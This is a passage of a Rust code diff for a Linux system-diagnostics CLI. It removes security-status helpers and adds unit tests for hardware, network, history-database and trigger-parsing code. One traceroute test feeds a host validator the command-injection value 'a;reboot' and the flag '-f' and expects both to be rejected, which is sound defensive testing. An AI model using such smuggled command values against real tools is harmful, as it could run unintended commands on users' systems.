-    let mut mounts = Vec::new();
-    if let Ok(data) = fs::read_to_string("/proc/mounts") {
-        for line in data.lines() {
-            let mut parts = line.split_whitespace();
-            let _device = match parts.next() {
-                Some(value) => value,
-                None => continue,
-            };
-            let mount_point = match parts.next() {
-                Some(value) => value,
-                None => continue,
-            };
-            let fs_type = match parts.next() {
-                Some(value) => value,
-                None => continue,
-            };
-            if fs_type == "btrfs" {
-                mounts.push(mount_point.to_string());
-            }
-        }
-    }
-    mounts
-}
+    #[test]
+    fn test_display_latency_helpers() {
+        let vars = vec![
+            ("__GL_SYNC_TO_VBLANK".to_string(), "1".to_string()),
+            ("vblank_mode".to_string(), "0".to_string()),
+            ("__GL_MaxFramesAllowed".to_string(), "3".to_string()),
+            (
+                "CLUTTER_PAINT".to_string(),
+                "disable-clipped-redraws".to_string(),
+            ),
+        ];
+        let lines = display_env_insights(&vars);
+        assert_eq!(lines.len(), 3);
+        assert!(lines
+            .iter()
+            .all(|line| matches!(line.level, InsightLevel::Warning)));
+        assert!(lines[2].message.contains("disable-clipped-redraws"));
+        assert!(display_env_insights(&[("vblank_mode".into(), "0".into())]).is_empty());
+
+        let xrandr = "Screen 0: minimum 8 x 8, current 2560 x 1440, maximum 32767 x 32767
+DP-1 connected primary 2560x1440+0+0 (normal left inverted right x axis y axis) 597mm x 336mm
+   2560x1440     59.95*+ 143.97   119.88
+   1920x1080     60.00    50.00
+HDMI-1 disconnected (normal left inverted right x axis y axis)
+eDP-1 connected 1920x1080+2560+0 (normal left inverted right x axis y axis) 344mm x 194mm
+   1920x1080     60.01*+
+";
+        let outputs = parse_xrandr_refresh(xrandr);
+        assert_eq!(outputs.len(), 2);
+        assert_eq!(outputs[0].output, "DP-1");
+        assert!((outputs[0].max_hz - 143.97).abs() < 0.01);
+        assert!(matches!(
+            refresh_insight(&outputs[0]).level,
+            InsightLevel::Warning
+        ));
+        assert!(matches!(
+            refresh_insight(&outputs[1]).level,
+            InsightLevel::Good
+        ));
 
-fn why_security() -> Result<()> {
-    println!("{}", t!("security_header").to_string().bold());
+        let wlr = "DP-1 \"Dell Inc. DELL S2721DGF (DP-1)\"
+  Enabled: yes
+  Modes:
+    2560x1440 px, 59.951000 Hz (preferred)
+    2560x1440 px, 143.912003 Hz (current)
+";
+        let outputs = parse_wlr_randr_refresh(wlr);
+        assert_eq!(outputs.len(), 1);
+        assert!((outputs[0].current_hz - 143.912).abs() < 0.01);
+        assert!(matches!(
+            refresh_insight(&outputs[0]).level,
+            InsightLevel::Good
+        ));
+    }
 
-    let mac_header = t!("security_controls_header").to_string();
-    let controls = vec![selinux_status_line(), apparmor_status_line()];
-    print_section(&mac_header, Ok(controls));
+    #[test]
+    fn test_acked_rule_is_suppressed_until_cleared() {
+        let rules = vec![(
+            parse_trigger("disk_full>80"),
+            Rule {
+                name: "disk_almost_full".to_string(),
+                trigger: "disk_full>80".to_string(),
+                message: "Disk almost full".to_string(),
+                solution: "Clean up".to_string(),
+                severity: 7,
+                auto_fix: None,
+                history: true,
+                actionable: None,
+            },
+        )];
+        let metrics = Metrics {
+            disk_full_percent: 85.0,
+            ..Default::default()
+        };
+        let path = std::env::temp_dir().join(format!("why-acks-{}.json", std::process::id()));
+
+        let mut store = acks::AckStore::default();
+        ack_rule("disk_almost_full", &rules, &metrics, &mut store, &path).unwrap();
+        assert!(ack_rule("no_such_rule", &rules, &metrics, &mut store, &path).is_err());
+        let store = acks::load(&path);
+
+        let mut findings = evaluate_rules(&metrics, &rules);
+        assert_eq!(findings.len(), 1);
+        apply_acks(&mut findings, &store, &rules, &metrics);
+        assert!(findings.is_empty());
+
+        // A significant change in the metric re-arms the finding
+        let fuller = Metrics {
+            disk_full_percent: 97.0,
+            ..Default::default()
+        };
+        let mut findings = evaluate_rules(&fuller, &rules);
+        apply_acks(&mut findings, &store, &rules, &fuller);
+        assert_eq!(findings.len(), 1);
+
+        let mut store = store;
+        store.clear();
+        acks::save(&path, &store).unwrap();
+        let mut findings = evaluate_rules(&metrics, &rules);
+        apply_acks(&mut findings, &acks::load(&path), &rules, &metrics);
+        assert_eq!(findings.len(), 1);
+        let _ = fs::remove_file(&path);
+    }
 
-    let firewall_header = t!("security_firewall_header").to_string();
-    print_section(&firewall_header, gather_firewall_lines());
+    #[test]
+    fn test_since_boot_scopes_journal_args() {
+        assert_eq!(journal_log_args(false), vec!["-n", "500", "--no-pager"]);
+        let scoped = journal_log_args(true);
+        assert!(scoped.windows(2).any(|pair| pair == ["-b", "0"]));
+        assert!(scoped.contains(&"-n"));
 
-    let ports_header = t!("security_open_ports_header").to_string();
-    print_section(&ports_header, gather_open_ports(8));
+        assert!(!Cli::try_parse_from(["why"]).unwrap().since_boot);
+        assert!(
+            Cli::try_parse_from(["why", "--since-boot", "rca"])
+                .unwrap()
+                .since_boot
+        );
+    }
 
-    Ok(())
-}
+    #[test]
+    fn test_per_core_temps_and_spread() {
+        let sensors = "coretemp-isa-0000
+Adapter: ISA adapter
+Package id 0:  +84.0°C  (high = +100.0°C, crit = +100.0°C)
+Core 0:        +62.0°C  (high = +100.0°C, crit = +100.0°C)
+Core 1:        +64.0°C  (high = +100.0°C, crit = +100.0°C)
+Core 2:        +83.0°C  (high = +100.0°C, crit = +100.0°C)
+Core 3:        -273.0°C  (high = +100.0°C, crit = +100.0°C)
+
+k10temp-pci-00c3
+Adapter: PCI adapter
+Tctl:         +70.1°C
+Tccd1:        +66.5°C
+";
+        let temps = parse_core_temps(sensors);
+        let labels: Vec<&str> = temps.iter().map(|(label, _)| label.as_str()).collect();
+        assert_eq!(labels, vec!["Core 0", "Core 1", "Core 2", "Tccd1"]);
+        assert_eq!(temperature_spread(&temps), Some(21.0));
+        assert_eq!(temperature_spread(&temps[..1]), None);
+        assert_eq!(grid_lines(&vec!["x".to_string(); 5]).len(), 2);
+    }
 
-fn selinux_status_line() -> InsightLine {
-    if !is_command_available("getenforce") {
-        return InsightLine {
-            level: InsightLevel::Info,
-            message: t!("security_selinux_missing").to_string(),
+    #[test]
+    fn test_history_db_wal_and_transactional_inserts() {
+        let db = temp_history_db("history");
+        let finding = |message: String| Finding {
+            message,
+            ..test_finding("test_rule", 7)
         };
+
+        let mut first = open_history_db(&db.path).unwrap();
+        let mut second = open_history_db(&db.path).unwrap();
+        let mode: String = first
+            .query_row("PRAGMA journal_mode", [], |row| row.get(0))
+            .unwrap();
+        assert_eq!(mode.to_ascii_lowercase(), "wal");
+
+        insert_history(&mut first, &[finding("one".into()), finding("two".into())]).unwrap();
+        // Second row violates the message length CHECK: nothing from this batch is kept
+        let batch = [finding("three".into()), finding("x".repeat(1001))];
+        assert!(insert_history(&mut second, &batch).is_err());
+
+        let count: i64 = second
+            .query_row("SELECT COUNT(*) FROM findings", [], |row| row.get(0))
+            .unwrap();
+        assert_eq!(count, 2);
     }
-    let output = Command::new("getenforce").output();
-    match output {
-        Ok(out) if out.status.success() => {
-            let state = String::from_utf8_lossy(&out.stdout).trim().to_string();
-            let level = match state.to_ascii_lowercase().as_str() {
-                "enforcing" => InsightLevel::Good,
-                "permissive" => InsightLevel::Warning,
-                _ => InsightLevel::Warning,
-            };
-            InsightLine {
-                level,
-                message: format!("SELinux: {state}"),
-            }
-        }
-        Ok(out) => InsightLine {
-            level: InsightLevel::Warning,
-            message: format!("SELinux: {}", String::from_utf8_lossy(&out.stderr).trim()),
-        },
-        Err(_) => InsightLine {
-            level: InsightLevel::Warning,
-            message: "SELinux: unable to query state".into(),
-        },
-    }
-}
 
-fn apparmor_status_line() -> InsightLine {
-    if !is_command_available("aa-status") {
-        return InsightLine {
-            level: InsightLevel::Info,
-            message: t!("security_apparmor_missing").to_string(),
+    #[test]
+    fn test_history_batch_commits_atomically() {
+        let db = temp_history_db("batch");
+        let findings: Vec<Finding> = (0..8)
+            .map(|idx| test_finding(&format!("rule_{idx}"), 3))
+            .collect();
+        let count = |conn: &Connection| -> i64 {
+            conn.query_row("SELECT COUNT(*) FROM findings", [], |row| row.get(0))
+                .unwrap()
         };
-    }
-    let output = Command::new("aa-status").output();
-    match output {
-        Ok(out) if out.status.success() => {
-            let text = String::from_utf8_lossy(&out.stdout);
-            let enforced = text
-                .lines()
-                .find(|line| line.contains("profiles are in enforce mode"))
-                .unwrap_or_default()
-                .split_whitespace()
-                .next()
-                .unwrap_or("0")
-                .to_string();
-            InsightLine {
-                level: InsightLevel::Good,
-                message: format!("AppArmor: {enforced} profiles enforcing"),
-            }
-        }
-        Ok(out) => InsightLine {
-            level: InsightLevel::Warning,
-            message: format!("AppArmor: {}", String::from_utf8_lossy(&out.stderr).trim()),
-        },
-        Err(_) => InsightLine {
-            level: InsightLevel::Warning,
-            message: "AppArmor: unable to query module".into(),
-        },
-    }
-}
 
-fn gather_firewall_lines() -> SectionResult {
-    let mut lines = Vec::new();
-    if let Some(line) = query_systemd_unit("firewalld", "firewalld") {
-        lines.push(line);
+        let mut conn = open_history_db(&db.path).unwrap();
+        insert_history(&mut conn, &findings).unwrap();
+        assert_eq!(count(&conn), 8);
+
+        // Forced error halfway through the batch rolls back the earlier rows
+        let mut broken = findings.clone();
+        broken[4].severity = "!".repeat(101);
+        assert!(insert_history(&mut conn, &broken).is_err());
+        assert_eq!(count(&conn), 8);
+
+        assert_eq!(config::Config::default().history_limit, 5);
+        assert_eq!(
+            config::parse_config("history_limit = 12")
+                .unwrap()
+                .history_limit,
+            12
+        );
     }
-    if is_command_available("ufw") {
-        let output = Command::new("ufw").arg("status").output();
-        if let Ok(out) = output {
-            let text = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
-            let active = text.contains("status: active");
-            lines.push(InsightLine {
-                level: if active {
-                    InsightLevel::Good
-                } else {
-                    InsightLevel::Warning
-                },
-                message: format!("UFW: {}", if active { "active" } else { "inactive" }),
-            });
-        }
+
+    #[test]
+    fn test_rule_hit_aggregation() {
+        let db = temp_history_db("hits");
+        let finding = |rule: &str| test_finding(rule, 7);
+        let mut conn = open_history_db(&db.path).unwrap();
+        record_rule_hits(&mut conn, &[finding("disk_full"), finding("swap_heavy")]).unwrap();
+        record_rule_hits(&mut conn, &[finding("disk_full")]).unwrap();
+        record_rule_hits(&mut conn, &[finding("disk_full"), finding("baloo")]).unwrap();
+
+        let stats = rule_hit_stats(&conn, 10).unwrap();
+        assert_eq!(
+            stats,
+            vec![
+                ("disk_full".to_string(), 3),
+                ("baloo".to_string(), 1),
+                ("swap_heavy".to_string(), 1)
+            ]
+        );
+        assert_eq!(rule_hit_stats(&conn, 1).unwrap().len(), 1);
+        assert!(!config::Config::default().telemetry);
     }
-    if is_command_available("nft") {
-        if let Ok(out) = Command::new("nft").args(["list", "ruleset"]).output() {
-            if out.status.success() {
-                let text = String::from_utf8_lossy(&out.stdout);
-                let has_rules = text.lines().any(|line| line.contains("table "));
-                lines.push(InsightLine {
-                    level: if has_rules {
-                        InsightLevel::Good
-                    } else {
-                        InsightLevel::Warning
-                    },
-                    message: format!(
-                        "nftables: {}",
-                        if has_rules {
-                            "rules present"
-                        } else {
-                            "no rules"
-                        }
-                    ),
-                });
+
+    #[test]
+    fn test_iowait_delta_between_stat_snapshots() {
+        let before = "cpu  2000 0 1000 10000 500 0 0 0 0 0
+cpu0 1000 0 500 5000 200 0 0 0 0 0
+cpu1 1000 0 500 5000 300 0 0 0 0 0
+intr 123456
+";
+        let after = "cpu  2100 0 1050 10100 800 0 0 0 0 0
+cpu0 1050 0 525 5050 350 0 0 0 0 0
+cpu1 1050 0 525 5050 450 0 0 0 0 0
+intr 123999
+";
+        let before = parse_cpu_times(before);
+        let after = parse_cpu_times(after);
+        assert_eq!(before.len(), 2);
+        assert_eq!(
+            before[1],
+            CpuTimes {
+                iowait: 300,
+                total: 6800
             }
-        }
-    }
-    if lines.is_empty() {
-        Err(t!("security_firewall_missing").to_string())
-    } else {
-        Ok(lines)
+        );
+
+        // 300 of 550 jiffies were spent in iowait
+        let iowait = iowait_percent(&before, &after).unwrap();
+        assert!((iowait - 54.5).abs() < 0.1);
+        assert_eq!(iowait_percent(&before, &before), None);
+
+        let trigger = parse_trigger("iowait>30");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            iowait_percent: Some(iowait),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
     }
-}
 
-fn gather_open_ports(limit: usize) -> SectionResult {
-    if let Some(entries) = open_ports_from_ss(limit) {
-        if entries.is_empty() {
-            return Ok(vec![InsightLine {
-                level: InsightLevel::Good,
-                message: t!("security_open_ports_none").to_string(),
-            }]);
-        }
-        return Ok(entries
-            .into_iter()
-            .map(|entry| InsightLine {
-                level: InsightLevel::Info,
-                message: entry,
-            })
-            .collect());
+    #[test]
+    fn test_parse_traceroute_hops() {
+        let output = "traceroute to example.com (93.184.216.34), 15 hops max, 60 byte packets
+ 1  192.168.1.1  1.842 ms
+ 2  10.24.0.1  9.310 ms
+ 3  *
+ 4  72.14.215.85  11.502 ms
+ 5  142.250.46.10  96.771 ms
+ 6  93.184.216.34  98.004 ms
+";
+        let hops = parse_traceroute(output);
+        assert_eq!(hops.len(), 6);
+        assert_eq!(hops[0].address.as_deref(), Some("192.168.1.1"));
+        assert_eq!(hops[2].rtt_ms, None);
+        assert!((hops[4].rtt_ms.unwrap() - 96.771).abs() < 0.001);
+
+        let insights = trace_insights(&hops);
+        assert!(insights
+            .iter()
+            .any(|line| matches!(line.level, InsightLevel::Good)));
+        let spike = insights.last().unwrap();
+        assert!(matches!(spike.level, InsightLevel::Warning));
+        assert!(spike.message.contains('5'));
+
+        // Multiple probes per hop are averaged
+        let multi = parse_traceroute(" 1  192.168.1.1  30.0 ms  40.0 ms  50.0 ms\n");
+        assert_eq!(multi[0].rtt_ms, Some(40.0));
+
+        assert_eq!(
+            parse_ping_avg_ms("rtt min/avg/max/mdev = 10.1/12.3/15.0/1.2 ms\n"),
+            Some(12.3)
+        );
+        assert!(is_valid_trace_host("example.com"));
+        assert!(is_valid_trace_host("2606:4700::1111"));
+        assert!(!is_valid_trace_host("-f"));
+        assert!(!is_valid_trace_host("a;reboot"));
     }
-    if let Some(entries) = open_ports_from_netstat(limit) {
-        if entries.is_empty() {
-            return Ok(vec![InsightLine {
-                level: InsightLevel::Good,
-                message: t!("security_open_ports_none").to_string(),
-            }]);
-        }
-        return Ok(entries
-            .into_iter()
-            .map(|entry| InsightLine {
-                level: InsightLevel::Info,
-                message: entry,
-            })
-            .collect());
+
+    #[test]
+    fn test_gpu_temp_levels_are_vendor_aware() {
+        let none = std::collections::HashMap::new();
+        let nvidia = gpu_temp_limits("nvidia", &none);
+        let amd = gpu_temp_limits("AMD", &none);
+        assert!(matches!(
+            gpu_temp_level(90.0, nvidia),
+            InsightLevel::Critical
+        ));
+        assert!(matches!(gpu_temp_level(90.0, amd), InsightLevel::Good));
+        assert!(matches!(
+            gpu_temp_level(80.0, gpu_temp_limits("unknown", &none)),
+            InsightLevel::Warning
+        ));
+
+        let config = config::parse_config("[gpu_temp.amd]\nhigh = 80\ncritical = 88\n").unwrap();
+        let amd = gpu_temp_limits("amd", &config.gpu_temp);
+        assert!(matches!(gpu_temp_level(90.0, amd), InsightLevel::Critical));
     }
-    Err(t!("security_ports_tool_missing").to_string())
-}
 
-fn open_ports_from_ss(limit: usize) -> Option<Vec<String>> {
-    if !is_command_available("ss") {
-        return None;
+    #[test]
+    fn test_parse_smart_attribute_table() {
+        let sata = "smartctl 7.4 2023-08-01 r5530 [x86_64-linux-6.8.0] (local build)
+=== START OF READ SMART DATA SECTION ===
+SMART Attributes Data Structure revision number: 1
+ID# ATTRIBUTE_NAME          FLAG     VALUE WORST THRESH TYPE      UPDATED  WHEN_FAILED RAW_VALUE
+  5 Reallocated_Sector_Ct   0x0033   100   100   010    Pre-fail  Always       -       8
+  9 Power_On_Hours          0x0032   095   095   000    Old_age   Always       -       23456
+177 Wear_Leveling_Count     0x0013   094   094   000    Pre-fail  Always       -       52
+194 Temperature_Celsius     0x0022   064   047   000    Old_age   Always       -       36 (Min/Max 18/53)
+197 Current_Pending_Sector  0x0012   100   100   000    Old_age   Always       -       0
+";
+        let attrs = parse_smart_attributes(sata);
+        assert!(attrs.contains(&(SmartField::PowerOnHours, 23456)));
+        assert!(attrs.contains(&(SmartField::Temperature, 36)));
+        assert!(attrs.contains(&(SmartField::WearUsed, 6)));
+        let lines = smart_attribute_lines(&attrs);
+        let power_on = lines
+            .iter()
+            .find(|line| line.message.contains("23456 h"))
+            .expect("power-on hours row");
+        assert!(matches!(power_on.level, InsightLevel::Info));
+        assert!(lines
+            .iter()
+            .any(|line| matches!(line.level, InsightLevel::Warning)));
+
+        let nvme = "=== START OF SMART DATA SECTION ===
+SMART/Health Information (NVMe Log 0x02)
+Critical Warning:                   0x00
+Temperature:                        38 Celsius
+Available Spare:                    100%
+Percentage Used:                    3%
+Power On Hours:                     5,432
+Unsafe Shutdowns:                   17
+Media and Data Integrity Errors:    0
+";
+        let attrs = parse_smart_attributes(nvme);
+        assert!(attrs.contains(&(SmartField::PowerOnHours, 5432)));
+        assert!(attrs.contains(&(SmartField::WearUsed, 3)));
+        assert!(attrs.contains(&(SmartField::UnsafeShutdowns, 17)));
     }
-    let output = Command::new("ss").args(["-tulpn"]).output().ok()?;
-    if !output.status.success() {
-        return None;
+
+    #[test]
+    fn test_network_mount_detection() {
+        let mounts = "/dev/nvme0n1p2 / ext4 rw,relatime 0 0
+tmpfs /tmp tmpfs rw,nosuid,nodev 0 0
+nas:/export/media /mnt/media nfs4 rw,relatime,vers=4.2,hard 0 0
+//fileserver/share /mnt/share cifs rw,vers=3.1.1 0 0
+user@host:/srv /home/me/remote fuse.sshfs rw,nosuid,nodev 0 0
+/dev/sdb1 /mnt/backup xfs rw 0 0
+";
+        let network = network_mounts(&parse_mounts(mounts));
+        let points: Vec<&str> = network.iter().map(|m| m.mount_point.as_str()).collect();
+        assert_eq!(points, vec!["/mnt/media", "/mnt/share", "/home/me/remote"]);
+
+        let trigger = parse_trigger("stale_mount=true");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            stale_mounts: Some(vec!["/mnt/media".to_string()]),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
     }
-    let mut entries = Vec::new();
-    for line in String::from_utf8_lossy(&output.stdout).lines().skip(1) {
-        let parts: Vec<&str> = line.split_whitespace().collect();
-        if parts.len() < 6 {
-            continue;
-        }
-        let proto = parts[0];
-        let local = parts[4];
-        let process = parts.get(6).copied().unwrap_or("-");
-        entries.push(format!("{proto:<4} {local:<30} {process}"));
-        if entries.len() >= limit {
-            break;
-        }
+
+    #[test]
+    fn test_compare_hosts_reports_divergences() {
+        let node_a: serde_json::Value = serde_json::from_str(
+            r#"{
+                "schema_version": 4, "hostname": "node-a", "kernel": "6.8.0-45-generic",
+                "distro": "Ubuntu 24.04", "uptime_seconds": 86400,
+                "metrics": {"cpu_usage": 12.0, "mem_usage": 40.0, "disk_full_percent": 55.0,
+                            "process_names": ["systemd"], "gpu": {"vendor": "nvidia", "temperature": 50.0}},
+                "findings": [{"rule_name": "snap_loops_many", "severity_value": 5}]
+            }"#,
+        )
+        .unwrap();
+        let node_b: serde_json::Value = serde_json::from_str(
+            r#"{
+                "schema_version": 4, "hostname": "node-b", "kernel": "6.5.0-14-generic",
+                "distro": "Ubuntu 24.04", "uptime_seconds": 300,
+                "metrics": {"cpu_usage": 12.4, "mem_usage": 93.0, "disk_full_percent": 55.0,
+                            "process_names": ["init"], "gpu": {"vendor": "nvidia", "temperature": 84.0}},
+                "findings": [{"rule_name": "snap_loops_many", "severity_value": 5},
+                             {"rule_name": "mem_pressure", "severity_value": 8}]
+            }"#,
+        )
+        .unwrap();
+
+        let report = diff::diff_snapshots(&node_a, &node_b, ("a.json", "b.json"));
+        assert_eq!(report.left_label, "node-a");
+        assert_eq!(report.right_label, "node-b");
+        let names: Vec<&str> = report.fields.iter().map(|f| f.name.as_str()).collect();
+        assert_eq!(names, vec!["kernel", "gpu.temperature", "mem_usage"]);
+        assert_eq!(report.fields[0].right, "6.5.0-14-generic");
+        assert!(report.only_left.is_empty());
+        assert_eq!(report.only_right, vec!["mem_pressure".to_string()]);
+
+        let same = diff::diff_snapshots(&node_a, &node_a, ("a", "a"));
+        assert!(same.is_empty());
     }
-    Some(entries)
-}
 
-fn open_ports_from_netstat(limit: usize) -> Option<Vec<String>> {
-    if !is_command_available("netstat") {
-        return None;
+    #[test]
+    fn test_parse_fwupd_updates() {
+        let json = r#"{
+  "Devices" : [
+    {
+      "Name" : "System Firmware",
+      "DeviceId" : "a45df35ac0e948ee180fe216a5f703f32dda163f",
+      "Version" : "0.1.25",
+      "Plugin" : "uefi_capsule",
+      "Releases" : [
+        { "Version" : "0.1.27", "Summary" : "ThinkPad X1 Carbon 9th System Firmware" }
+      ]
+    },
+    {
+      "Name" : "Samsung SSD 980 PRO 1TB",
+      "Version" : "3B2QGXA7",
+      "Plugin" : "nvme",
+      "Releases" : [
+        { "Version" : "5B2QGXA7" },
+        { "Version" : "4B2QGXA7" }
+      ]
+    },
+    {
+      "Name" : "UEFI dbx",
+      "Version" : "371",
+      "Releases" : []
     }
-    let output = Command::new("netstat").args(["-tulpn"]).output().ok()?;
-    if !output.status.success() {
-        return None;
+  ]
+}"#;
+        let updates = parse_fwupd_updates(json).unwrap();
+        assert_eq!(updates.len(), 2);
+        assert!(updates[0].is_system_firmware());
+        assert_eq!(updates[1].available.as_deref(), Some("5B2QGXA7"));
+        assert!(updates[1].is_storage());
+        assert_eq!(parse_fwupd_updates("").unwrap().len(), 0);
+        assert!(parse_fwupd_updates("not json").is_none());
+
+        let trigger = parse_trigger("firmware_updates>0");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            firmware_updates: Some(updates.len() as u32),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
     }
-    let mut entries = Vec::new();
-    for line in String::from_utf8_lossy(&output.stdout).lines() {
-        if line.starts_with("Proto") || line.trim().is_empty() {
-            continue;
-        }
-        let parts: Vec<&str> = line.split_whitespace().collect();
-        if parts.len() < 7 {
-            continue;
-        }
-        let proto = parts[0];
-        let local = parts[3];
-        let process = parts[6];
-        entries.push(format!("{proto:<4} {local:<30} {process}"));
-        if entries.len() >= limit {
-            break;
+
+    #[test]
+    fn test_only_changed_shows_delta() {
+        let db = temp_history_db("runs");
+        let finding = |rule: &str| test_finding(rule, 7);
+
+        let conn = open_history_db(&db.path).unwrap();
+        assert!(last_run_ids(&conn).unwrap().is_none());
+        record_run(&conn, &[finding("high_cpu"), finding("disk_full")]).unwrap();
+        let previous = last_run_ids(&conn).unwrap().unwrap();
+        assert_eq!(previous, vec!["high_cpu", "disk_full"]);
+
+        let current = vec![finding("disk_full"), finding("high_iowait")];
+        let (appeared, resolved) = changed_findings(&previous, current);
+        let appeared: Vec<&str> = appeared.iter().map(|f| f.rule_name.as_str()).collect();
+        assert_eq!(appeared, vec!["high_iowait"]);
+        assert_eq!(resolved, vec!["high_cpu"]);
+
+        // A clean run still counts as the previous run
+        record_run(&conn, &[]).unwrap();
+        assert!(last_run_ids(&conn).unwrap().unwrap().is_empty());
+
+        // A run that skipped probes is not a baseline
+        log_to_history(
+            &db.path,
+            &[finding("swap_full")],
+            &[],
+            &Metrics::default(),
+            false,
+        )
+        .unwrap();
+        assert!(last_run_ids(&conn).unwrap().unwrap().is_empty());
+        log_to_history(
+            &db.path,
+            &[finding("swap_full")],
+            &[],
+            &Metrics::default(),
+            true,
+        )
+        .unwrap();
+        assert_eq!(last_run_ids(&conn).unwrap().unwrap(), vec!["swap_full"]);
+    }
+
+    #[test]
+    fn test_doctor_route() {
+        let route = |symptom, after_update| {
+            doctor_route(symptom, after_update)
+                .iter()
+                .map(|command| format!("{:?}", std::mem::discriminant(command)))
+                .collect::<Vec<_>>()
+        };
+        let expect = |commands: Vec<Commands>| {
+            commands
+                .iter()
+                .map(|command| format!("{:?}", std::mem::discriminant(command)))
+                .collect::<Vec<_>>()
+        };
+
+        assert_eq!(
+            route(Symptom::Hot, false),
+            expect(vec![Commands::Hot, Commands::Fan])
+        );
+        assert_eq!(
+            route(Symptom::Offline, false),
+            expect(vec![
+                Commands::Net {
+                    trace: None,
+                    interface: None,
+                    captive: false,
+                },
+                Commands::Wifi,
+            ])
+        );
+        assert_eq!(
+            route(Symptom::Crashing, true),
+            expect(vec![
+                Commands::Crash { core: None },
+                Commands::Rca,
+                Commands::Boot { previous: true },
+                Commands::Update,
+            ])
+        );
+        // Every answer runs something, and never the dashboard or doctor itself
+        for symptom in [
+            Symptom::Slow,
+            Symptom::Hot,
+            Symptom::Crashing,
+            Symptom::Offline,
+        ] {
+            let commands = doctor_route(symptom, false);
+            assert!(!commands.is_empty());
+            assert!(!commands
+                .iter()
+                .any(|c| matches!(c, Commands::All | Commands::Doctor { .. })));
+            assert!(!route_categories(&commands).is_empty());
         }
     }
-    Some(entries)
-}
 
-fn query_systemd_unit(unit: &str, label: &str) -> Option<InsightLine> {
-    if !is_command_available("systemctl") {
-        return None;
+    #[test]
+    fn test_doctor_conclusion_stays_on_route() {
+        let rules: Vec<(Trigger, Rule)> = [
+            ("wifi_weak", "wifi_signal<-75", 6),
+            ("disk_full", "disk_full>95", 9),
+            ("hot_laptop", "temp>90 && process=steam", 7),
+        ]
+        .into_iter()
+        .map(|(name, trigger, severity)| {
+            let rule = Rule {
+                name: name.to_string(),
+                trigger: trigger.to_string(),
+                message: name.to_string(),
+                solution: String::new(),
+                severity,
+                auto_fix: None,
+                history: true,
+                actionable: None,
+            };
+            (parse_trigger(trigger), rule)
+        })
+        .collect();
+        let metrics = Metrics {
+            disk_full_percent: 99.0,
+            wifi_signal_dbm: Some(-80.0),
+            temperature_c: Some(95.0),
+            process_names: vec!["steam".to_string()],
+            ..Default::default()
+        };
+        let findings = evaluate_rules(&metrics, &rules);
+        assert_eq!(findings.len(), 3);
+
+        let conclude = |symptom| {
+            doctor_conclusion(&doctor_route(symptom, false), &findings)
+                .map(|finding| finding.rule_name.as_str())
+        };
+        // The full disk is worse, but not what an offline user asked about
+        assert_eq!(conclude(Symptom::Offline), Some("wifi_weak"));
+        assert_eq!(conclude(Symptom::Hot), Some("hot_laptop"));
+        assert_eq!(conclude(Symptom::Slow), Some("disk_full"));
+        assert_eq!(conclude(Symptom::Crashing), None);
     }
-    let output = Command::new("systemctl")
-        .args(["is-active", unit])
-        .output()
-        .ok()?;
-    let text = if output.stdout.is_empty() {
-        String::from_utf8_lossy(&output.stderr).trim().to_string()
-    } else {
-        String::from_utf8_lossy(&output.stdout).trim().to_string()
-    };
-    let active = output.status.success() && text == "active";
-    let level = if active {
-        InsightLevel::Good
-    } else if text == "inactive" || text == "failed" {
-        InsightLevel::Warning
-    } else {
-        InsightLevel::Info
-    };
-    Some(InsightLine {
-        level,
-        message: format!("{label}: {text}"),
-    })
-}
 
-fn why_rca(metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("rca_header").to_string().bold());
-    let uptime = Duration::from_secs(System::uptime());
-    let summary = t!("rca_summary")
-        .replace("{uptime}", &human_duration(uptime))
-        .replace("{cpu}", &format!("{:.1}", metrics.cpu_usage))
-        .replace("{ram}", &format!("{:.1}", metrics.mem_usage))
-        .replace("{disk}", &format!("{:.1}", metrics.disk_full_percent));
-    println!("{summary}");
-    if let Some(last_boot) = last_boot_string() {
-        println!("{} {last_boot}", t!("rca_last_boot"));
+    #[test]
+    fn test_parse_trigger_or_and_grouping() {
+        let busy = Metrics {
+            cpu_usage: Some(95.0),
+            ..Default::default()
+        };
+        let swapping = Metrics {
+            mem_usage: 95.0,
+            ..Default::default()
+        };
+        let either = parse_trigger("cpu>90 || mem>90");
+        assert!(matches!(&either, Trigger::Any(children) if children.len() == 2));
+        assert!(trigger_holds(&either, &busy, None));
+        assert!(trigger_holds(&either, &swapping, None));
+        assert!(!trigger_holds(&either, &Metrics::default(), None));
+
+        // `&&` binds tighter: (cpu && mem) || disk
+        let mixed = parse_trigger("cpu>90 && mem>90 || disk_full>90");
+        assert!(matches!(&mixed, Trigger::Any(children)
+            if matches!(&children[0], Trigger::All(inner) if inner.len() == 2)));
+        assert!(!trigger_holds(&mixed, &busy, None));
+        let full = Metrics {
+            disk_full_percent: 95.0,
+            ..Default::default()
+        };
+        assert!(trigger_holds(&mixed, &full, None));
+
+        // Parentheses override precedence
+        let grouped = parse_trigger("cpu>90 && (mem>90 || disk_full>90)");
+        assert!(!trigger_holds(&grouped, &busy, None));
+        let busy_full = Metrics {
+            cpu_usage: Some(95.0),
+            disk_full_percent: 95.0,
+            ..Default::default()
+        };
+        assert!(trigger_holds(&grouped, &busy_full, None));
+
+        // Dangling operator is dropped
+        let dangling = parse_trigger("cpu>90 ||");
+        assert!(matches!(
+            dangling,
+            Trigger::Condition(Condition::CpuGreater(_))
+        ));
+        assert!(trigger_holds(&dangling, &busy, None));
+
+        // Plain `&&` triggers parse as before
+        let legacy = parse_trigger("cpu>80 && mem>90");
+        assert!(matches!(&legacy, Trigger::All(children) if children.len() == 2));
+        assert_eq!(legacy.conditions().len(), 2);
+
+        // Regex parentheses stay inside the condition
+        let regex = parse_trigger("log_contains=(oom|killed) || cpu>90");
+        assert!(matches!(regex.conditions()[0], Condition::LogContains(_)));
+        assert_eq!(
+            invalid_trigger_tokens("(cpu>90 || mem>>) && x"),
+            vec!["mem>>", "x"]
+        );
     }
 
-    println!("\n{}", t!("rca_timeline_header").to_string().bold());
-    if let Some(logs) = recent_logs() {
-        let events = extract_rca_events(&logs);
-        if events.is_empty() {
-            println!("  {}", t!("rca_no_events").to_string().green());
-        } else {
-            for event in events {
